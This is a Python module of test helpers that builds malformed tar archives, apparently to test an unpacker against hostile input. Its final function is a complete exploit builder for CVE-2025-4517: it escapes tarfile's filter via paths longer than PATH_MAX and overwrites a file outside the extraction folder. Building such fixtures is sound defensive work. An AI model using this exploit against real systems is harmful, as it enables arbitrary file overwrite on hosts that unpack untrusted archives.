"""Archives that no honest `tar` writes, built byte by byte, as a host could send them."""

from __future__ import annotations

import gzip
import io
import tarfile
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Iterable, Iterator

BLOCK = 512
END = bytes(2 * BLOCK)


def header(  # noqa: PLR0913 - the fields of a header
    name: bytes,
    kind: bytes = b"0",
    size: int | bytes = 0,
    *,
    link: bytes = b"",
    magic: bytes = b"ustar\x0000",
    prefix: bytes = b"",
    checksum: int | None = None,
) -> bytes:
    """One header block; a size in bytes goes in as it is."""
    sized = size if isinstance(size, bytes) else b"%011o\0" % size
    parts = [name.ljust(100, b"\0"), b"0000644\0", b"0000000\0", b"0000000\0"]
    parts += [sized, b"00000000000\0", b" " * 8, kind, link.ljust(100, b"\0"), magic]
    parts += [bytes(32), bytes(32), b"0000000\0", b"0000000\0", prefix.ljust(155, b"\0")]
    block = bytearray(b"".join(parts).ljust(BLOCK, b"\0"))
    total = sum(block) if checksum is None else checksum
    block[148:156] = b"%06o\0 " % total
    return bytes(block)


def padded(data: bytes) -> bytes:
    return data + bytes(-len(data) % BLOCK)


def file(name: bytes, data: bytes = b"data", **more) -> bytes:
    return header(name, b"0", len(data), **more) + padded(data)


def folder(name: bytes) -> bytes:
    return header(name, b"5")


def symlink(name: bytes, target: bytes) -> bytes:
    return header(name, b"2", link=target)


def hard_link(name: bytes, target: bytes) -> bytes:
    return header(name, b"1", link=target)


def pax(*pairs: tuple[bytes, bytes], kind: bytes = b"x") -> bytes:
    """An extended header for the member that follows."""
    data = b"".join(map(record, pairs))
    return header(b"PaxHeader", kind, len(data)) + padded(data)


def record(pair: tuple[bytes, bytes]) -> bytes:
    text = b" %s=%s\n" % pair
    length = len(text)
    while length != len(text) + len(str(length)):
        length = len(text) + len(str(length))
    return b"%d%s" % (length, text)


def long_name(name: bytes, kind: bytes = b"L") -> bytes:
    """GNU's header for a name of more than 100 bytes."""
    return header(b"././@LongLink", kind, len(name) + 1) + padded(name + b"\0")


def archive(*members: bytes) -> bytes:
    """The whole archive, compressed."""
    return gzip.compress(b"".join(members) + END, 1)


def pieces(data: bytes, size: int = 32_768) -> Iterator[bytes]:
    """What a channel gives, piece after piece, and nothing at the end."""
    yield from (data[at : at + size] for at in range(0, len(data), size))
    while True:
        yield b""


def endless(members: Iterable[bytes]) -> Iterator[bytes]:
    """An archive that is made while it is read; it never ends."""
    buffer = io.BytesIO()
    with gzip.GzipFile(fileobj=buffer, mode="wb", compresslevel=1) as packed:
        for member in members:
            packed.write(member)
            if buffer.tell():
                yield buffer.getvalue()
                buffer.seek(0)
                buffer.truncate()
    yield buffer.getvalue()


def beyond_path_max(victim: str, data: bytes) -> bytes:
    """CVE-2025-4517: links whose resolved path is longer than PATH_MAX pass `tarfile`'s filter.

    os.path.realpath stops resolving at PATH_MAX, so that the filter takes `escape` for a folder
    inside, while the kernel, which follows short names, leaves the folder by it. A hard link then
    gives the victim a name inside, and a second member of that name writes through it.

    Args:
        victim: a file outside, relative to the folder that is unpacked into: `../x`.
        data: what is written to it.
    """
    long, steps, where = "d" * 247, "abcdefghijklmnop", ""
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w:gz", format=tarfile.GNU_FORMAT) as tar:

        def add(name: str, kind: bytes, target: str = "", content: bytes = b"") -> None:
            member = tarfile.TarInfo(name)
            member.type, member.linkname, member.size = kind, target, len(content)
            member.mode = 0o755
            tar.addfile(member, io.BytesIO(content))

        for step in steps:
            add(where + long, tarfile.DIRTYPE)
            add(where + step, tarfile.SYMTYPE, long)
            where += long + "/"
        turn = "/".join(steps) + "/" + "l" * 254
        add(turn, tarfile.SYMTYPE, "../" * len(steps))
        above, _, name = victim.rpartition("/")
        add("escape", tarfile.SYMTYPE, f"{turn}/{above}")
        add("inside", tarfile.LNKTYPE, f"escape/{name}")
        add("inside", tarfile.REGTYPE, content=data)
    return stream.getvalue()
